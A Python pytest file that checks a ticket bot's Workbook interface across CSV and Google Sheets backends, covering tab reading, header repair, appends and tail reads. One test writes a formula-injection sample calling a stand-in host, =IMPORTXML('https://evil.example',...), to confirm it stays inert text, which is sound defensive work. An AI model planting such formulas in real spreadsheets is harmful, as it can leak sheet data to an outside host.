"""The Workbook interface, the same promises from both implementations: the CSV folder and
Google Sheets (the real gspread client against the fake Sheets API)."""
from __future__ import annotations

import csv
from datetime import datetime, timedelta, timezone

import pytest
import responses

from rcabot.bootstrap import SHEETS_SCOPE, TEMPLATES
from rcabot.workbook import TabNotFound
from rcabot.workbook.google import GoogleWorkbook
from rcabot.workbook.local import LocalWorkbook
from tests.fakes.google import FakeGoogle

OPS_TABS = ("Configuration", "Managers")


def template(tab: str) -> list[list[str]]:
    with open(TEMPLATES / f"{tab}.csv", newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


class LocalSide:
    def __init__(self, tmp_path):
        self.workbook = LocalWorkbook.from_templates(tmp_path / "workbook", TEMPLATES)
        self.folder = tmp_path / "workbook"

    def ops_snapshot(self):
        return {tab: (self.folder / f"{tab}.csv").read_bytes() for tab in OPS_TABS}

    def delete(self, tab: str) -> None:
        (self.folder / f"{tab}.csv").unlink()

    def small_chunks(self) -> LocalWorkbook:
        """The same folder, read back in blocks of a few rows."""
        return LocalWorkbook(self.folder, tail_bytes=64)


class GoogleSide:
    def __init__(self, fake: FakeGoogle):
        self.fake = fake
        for tab in OPS_TABS:
            fake.sheets.add_tab(tab, template(tab))
        self.workbook = GoogleWorkbook(fake.sheets.spreadsheet_id, fake.credentials(SHEETS_SCOPE),
                                       sleep=lambda seconds: None)

    def ops_snapshot(self):
        return {tab: self.fake.sheets.rows(tab) for tab in OPS_TABS}

    def delete(self, tab: str) -> None:
        self.fake.sheets.tabs = [t for t in self.fake.sheets.tabs if t.title != tab]

    def small_chunks(self) -> GoogleWorkbook:
        """The same spreadsheet, read back a few rows at a time, its grids a few blank rows longer
        than their content (in proportion, as the bot's writes leave them: up to 1,000 blank rows
        where it reads 5,000 at a time)."""
        for tab in self.fake.sheets.tabs:
            tab.rows = max(tab.extent()[0], 1) + 4
        return GoogleWorkbook(self.fake.sheets.spreadsheet_id, self.fake.credentials(SHEETS_SCOPE),
                              sleep=lambda seconds: None, tail_rows=3)


@pytest.fixture(params=["local", "google"])
def side(request, tmp_path):
    if request.param == "local":
        yield LocalSide(tmp_path)
        return
    fake = FakeGoogle()
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        fake.install(rsps)
        yield GoogleSide(fake)


def trimmed(rows) -> list[list[str]]:
    """Sheets leaves out trailing empty cells, CSV keeps them: the readers accept both."""
    out = []
    for row in rows:
        row = list(row)
        while row and row[-1] == "":
            row.pop()
        out.append(row)
    return out


HEADERS = {"TicketState": ["Ticket", "Status"], "Tracker": ["Timestamp", "Ticket", "Status"]}


def test_reads_the_ops_tabs_by_name_with_their_extra_columns(side):
    tables = side.workbook.read_tabs(["Configuration", "Managers"])
    assert trimmed(tables["Managers"]) == trimmed(row for row in template("Managers") if any(row))
    assert "Notes" in tables["Managers"][0]
    assert tables["Configuration"][0] == template("Configuration")[0]


def test_a_missing_tab_is_named(side):
    with pytest.raises(TabNotFound) as missing:
        side.workbook.read_tabs(["Managers", "Escalations"])
    assert missing.value.tab == "Escalations"


def test_ensure_tabs_creates_missing_tabs_and_repairs_old_headers_keeping_rows(side):
    assert side.workbook.ensure_tabs(HEADERS) == ["TicketState", "Tracker"]
    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-1", "Pinged"]]})
    side.workbook.replace_tabs({"TicketState": [["Ticket ID", "State"], ["RCA-1", "Pinged"]]})
    assert side.workbook.ensure_tabs(HEADERS) == ["TicketState"]
    assert side.workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Status"], ["RCA-1", "Pinged"]]
    assert side.workbook.ensure_tabs(HEADERS) == []


def test_replace_writes_exactly_the_new_rows_even_when_shorter(side):
    side.workbook.ensure_tabs(HEADERS)
    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-1", "Pinged"], ["RCA-2", "Waiting"]]})
    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-2", "Accepted"]]})
    assert side.workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Status"], ["RCA-2", "Accepted"]]


def test_appends_go_after_the_last_row_in_order(side):
    side.workbook.ensure_tabs(HEADERS)
    side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"], ["t2", "RCA-1", ""]])
    side.workbook.append_rows("Tracker", [["t3", "RCA-1", "Accepted"]])
    assert trimmed(side.workbook.read_tabs(["Tracker"])["Tracker"]) == [
        ["Timestamp", "Ticket", "Status"], ["t1", "RCA-1", "Pinged"], ["t2", "RCA-1"], ["t3", "RCA-1", "Accepted"]]


def test_last_rows_are_the_tail_below_the_header_trimmed(side):
    side.workbook.ensure_tabs(HEADERS)
    assert side.workbook.last_rows("Tracker", 2) == []
    side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"], ["t2", "RCA-1", ""], ["t3", "=1", "Accepted"]])
    assert side.workbook.last_rows("Tracker", 2) == [["t2", "RCA-1"], ["t3", "=1", "Accepted"]]
    assert side.workbook.last_rows("Tracker", 10) == [["t1", "RCA-1", "Pinged"], ["t2", "RCA-1"],
                                                       ["t3", "=1", "Accepted"]]


def test_text_that_looks_like_a_formula_stays_text(side):
    side.workbook.ensure_tabs(HEADERS)
    nasty = ['=IMPORTXML("https://evil.example","//a")', "+1", "-2", "@SUM(A1)"]
    side.workbook.append_rows("Tracker", [["t1", cell, "Pinged"] for cell in nasty])
    rows = side.workbook.read_tabs(["Tracker"])["Tracker"][1:]
    assert [row[1] for row in rows] == nasty
    if isinstance(side, GoogleSide):
        assert all(side.fake.sheets.formula("Tracker", f"B{n}") is None for n in range(2, 6))


def test_writes_never_touch_the_ops_tabs(side):
    before = side.ops_snapshot()
    side.workbook.ensure_tabs(HEADERS)
    side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"], ["RCA-1", "Pinged"]]})
    side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"]])
    assert side.ops_snapshot() == before


def test_appending_to_a_missing_tab_is_an_error_not_a_new_tab(side):
    with pytest.raises(TabNotFound):
        side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"]])


def test_a_lone_surrogate_the_bot_writes_is_stored_as_a_replacement_character(side):
    side.workbook.ensure_tabs(HEADERS)
    side.workbook.write({"TicketState": [["Ticket", "Status"], ["RCA-1", "half an emoji \ud83d"]]},
                        {"Tracker": [["t1", "\ude00", "Pinged"]]})
    tables = side.workbook.read_tabs(["TicketState", "Tracker"])
    assert tables["TicketState"][1] == ["RCA-1", "half an emoji \ufffd"]
    assert tables["Tracker"][1] == ["t1", "\ufffd", "Pinged"]


def test_a_write_to_a_bot_tab_deleted_by_hand_names_the_tab_and_ensure_tabs_makes_it_again(side):
    side.workbook.ensure_tabs(HEADERS)
    side.workbook.append_rows("Tracker", [["t1", "RCA-1", "Pinged"], ["t2", "RCA-1", "Accepted"]])
    side.delete("Tracker")
    with pytest.raises(TabNotFound) as missing:
        side.workbook.write({"TicketState": [["Ticket", "Status"]]}, {"Tracker": [["t3", "RCA-2", "Pinged"]]})
    assert missing.value.tab == "Tracker"
    assert side.workbook.ensure_tabs(HEADERS) == ["Tracker"]
    side.workbook.write({"TicketState": [["Ticket", "Status"]]}, {"Tracker": [["t3", "RCA-2", "Pinged"]]})
    assert side.workbook.read_tabs(["Tracker"])["Tracker"] == [["Timestamp", "Ticket", "Status"],
                                                              ["t3", "RCA-2", "Pinged"]]


def test_replacing_a_tab_that_is_missing_is_an_error_not_a_new_tab(side):
    with pytest.raises(TabNotFound):
        side.workbook.replace_tabs({"TicketState": [["Ticket", "Status"]]})


# --- recent rows: the tail of the Tracker, read back from the end --------------------------------

DAY_ONE = datetime(2026, 11, 1, tzinfo=timezone.utc)


def hour(n: int) -> str:
    return (DAY_ONE + timedelta(hours=n)).strftime("%Y-%m-%dT%H:%M:%SZ")


def older_than(cutoff: int):
    """The test's `older`: a row before hour `cutoff` is older; a row without a time cannot tell."""
    def older(row) -> bool | None:
        try:
            return datetime.strptime(row[0], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc) < \
                DAY_ONE + timedelta(hours=cutoff)
        except (IndexError, ValueError):
            return None
    return older


def a_tracker(side) -> list[list[str]]:
    """40 rows an hour apart, with what a Tracker can hold: notes without a time, quoted commas and
    line breaks, text like a formula, blank cells at the end."""
    rows = []
    for n in range(40):
        rows.append([hour(n), f"RCA-{n}", "Ada", "Pinged", "users/1", f"shift 1, attempt {n}"])
        if n % 7 == 3:
            rows.append(["a note from ops", "with \"quotes\"\nover two lines", "=1+1"])
        if n % 9 == 5:
            rows.append([hour(n), f"RCA-{n}", "Bea", "Declined", "users/2"])
    side.workbook.ensure_tabs({"Tracker": ["Timestamp", "Ticket", "Manager Name", "Status", "Manager GChat ID",
                                           "Detail"]})
    side.workbook.append_rows("Tracker", rows)
    return trimmed(rows)


def test_recent_rows_are_a_tail_of_the_tab_holding_every_row_since_the_first_older_one(side):
    rows = a_tracker(side)
    recent = side.small_chunks().recent_rows("Tracker", older_than(35))
    assert recent == rows[-len(recent):]
    first_wanted = next(n for n, row in enumerate(rows) if row[0] == hour(35))
    assert len(rows) - first_wanted <= len(recent) < len(rows) - 10  # read back only so far


def test_recent_rows_read_the_whole_tab_when_no_row_is_older_and_pass_rows_without_a_time(side):
    rows = a_tracker(side)
    assert side.small_chunks().recent_rows("Tracker", older_than(0)) == rows
    assert side.small_chunks().recent_rows("Tracker", lambda row: None) == rows


def test_recent_rows_of_a_tab_with_only_its_header_are_none_and_of_a_missing_tab_an_error(side):
    side.workbook.ensure_tabs(HEADERS)
    assert side.small_chunks().recent_rows("Tracker", older_than(0)) == []
    with pytest.raises(TabNotFound):
        side.small_chunks().recent_rows("Escalations", older_than(0))
